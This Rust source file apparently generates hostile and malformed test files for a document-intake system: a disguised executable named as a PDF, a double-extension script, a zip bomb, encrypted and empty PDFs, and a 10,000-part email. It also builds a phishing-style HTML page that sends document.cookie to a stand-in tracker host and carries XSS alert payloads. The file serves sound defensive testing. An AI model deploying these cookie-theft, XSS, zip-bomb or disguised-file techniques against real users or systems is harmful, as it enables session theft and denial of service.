//! Files that are broken, or that mean harm. All of them are harmless here.

use super::{Desk, Who};
use crate::{mail::member, truth::Decision};
use std::io::{self, Cursor, Write};
use zip::ZipWriter;

fn broken(desk: &mut Desk<'_>, stem: &str, end: &str, bytes: Vec<u8>, decision: Decision, why: &str) {
    let file = desk.file_name(stem, end);
    let who = Who { decision, ..Who::asked(why) };
    let mut paper = desk.body("", who, &[], &[]);
    paper.part = None;
    paper.pages = Vec::new();
    desk.push(file, vec![paper], bytes, String::new());
    desk.trap("hostile");
}

/// One of each.
pub(crate) fn hostile(desk: &mut Desk<'_>) -> io::Result<()> {
    use Decision::{Asked, Quarantined};
    broken(desk, "empty", "pdf", Vec::new(), Asked, "the file is empty");
    broken(desk, "encrypted", "pdf", encrypted(), Asked, "the PDF is encrypted");
    broken(desk, "no_pages", "pdf", b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\nxref\n0 3\n0000000000 65535 f \n0000000009 00000 n \n0000000055 00000 n \ntrailer\n<</Size 3/Root 1 0 R>>\nstartxref\n103\n%%EOF\n".to_vec(), Asked, "the PDF has no pages");
    let mut program = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8\x00\x00\x00".to_vec();
    program.resize(0x80, 0);
    program[0x3c] = 0x80;
    program.extend_from_slice(b"PE\0\0\x4c\x01\x00\x00");
    program.resize(2048, 0);
    broken(desk, "statement", "pdf", program, Quarantined, "it is a program with the name of a PDF");
    broken(desk, "invoice.pdf", "js", b"var shell = new ActiveXObject('WScript.Shell');\nshell.Popup('this demo file does nothing else');\n".to_vec(), Quarantined, "it is a script");
    broken(desk, "archive", "zip", bomb()?, Quarantined, "it unpacks to far more than it weighs");
    let bytes = noise(desk);
    broken(desk, "noise", "pdf", bytes, Asked, "the bytes are no known format");
    many_parts(desk);
    scripted(desk);
    Ok(())
}

/// A PDF that says that it is encrypted, with a handler that nobody can satisfy.
fn encrypted() -> Vec<u8> {
    let lock = "4d".repeat(32);
    let mut out = b"%PDF-1.6\n".to_vec();
    let mut at = Vec::new();
    for body in [
        "<</Type/Catalog/Pages 2 0 R>>".to_owned(),
        "<</Type/Pages/Kids[3 0 R]/Count 1>>".to_owned(),
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>".to_owned(),
        format!("<</Filter/Standard/V 2/R 3/Length 128/P -44/O<{lock}>/U<{lock}>>>"),
    ] {
        at.push(out.len());
        out.extend_from_slice(format!("{} 0 obj\n{body}\nendobj\n", at.len()).as_bytes());
    }
    let table = out.len();
    out.extend_from_slice(b"xref\n0 5\n0000000000 65535 f \n");
    for offset in at {
        out.extend_from_slice(format!("{offset:010} 00000 n \n").as_bytes());
    }
    out.extend_from_slice(
        format!(
            "trailer\n<</Size 5/Root 1 0 R/Encrypt 4 0 R/ID[<{lock}><{lock}>]>>\nstartxref\n{table}\n%%EOF\n"
        )
        .as_bytes(),
    );
    out
}

/// Sixty members of four megabytes of zeros each: a quarter of a gigabyte from a quarter of a megabyte.
fn bomb() -> io::Result<Vec<u8>> {
    let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
    let zeros = vec![0u8; 4 << 20];
    for n in 0..60 {
        zip.start_file(format!("page{n:02}.txt"), member()).map_err(io::Error::other)?;
        zip.write_all(&zeros)?;
    }
    Ok(zip.finish().map_err(io::Error::other)?.into_inner())
}

fn noise(desk: &mut Desk<'_>) -> Vec<u8> {
    (0..5_000).map(|_| (desk.chance.bits() & 0xff) as u8 | 0x80).collect()
}

/// A mail of ten thousand parts.
fn many_parts(desk: &mut Desk<'_>) {
    let mut text = String::from(
        "From: Bulk <bulk@nowhere.example>\r\nTo: <post@aldergate-voss.example>\r\nSubject: parts\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"p\"\r\n\r\n",
    );
    for n in 0..10_000 {
        text.push_str(&format!("--p\r\nContent-Type: text/plain\r\n\r\n{n}\r\n"));
    }
    text.push_str("--p--\r\n");
    let file = desk.file_name("parts", "eml");
    let mut paper = desk.body("", Who::asked("a mail of ten thousand parts from a stranger"), &[], &[]);
    paper.pages = Vec::new();
    desk.push(file, vec![paper], text.into_bytes(), String::new());
    desk.trap("hostile");
}

/// A page that would like to run something.
fn scripted(desk: &mut Desk<'_>) {
    let page = "<!DOCTYPE html><html><head><title>Your account</title><script>document.location='http://tracker.example/'+document.cookie</script></head><body onload=\"alert(1)\"><p>Dear customer, your account needs attention. Press the button.</p><img src=\"http://tracker.example/pixel.gif\" onerror=\"alert(2)\"><iframe src=\"javascript:alert(3)\"></iframe></body></html>";
    let file = desk.file_name("account", "html");
    let mut paper = desk.body("", Who::asked("a page from nobody about nobody, with scripts"), &[], &[]);
    paper.part = None;
    desk.push(file, vec![paper], page.as_bytes().to_vec(), String::new());
    desk.trap("hostile");
}
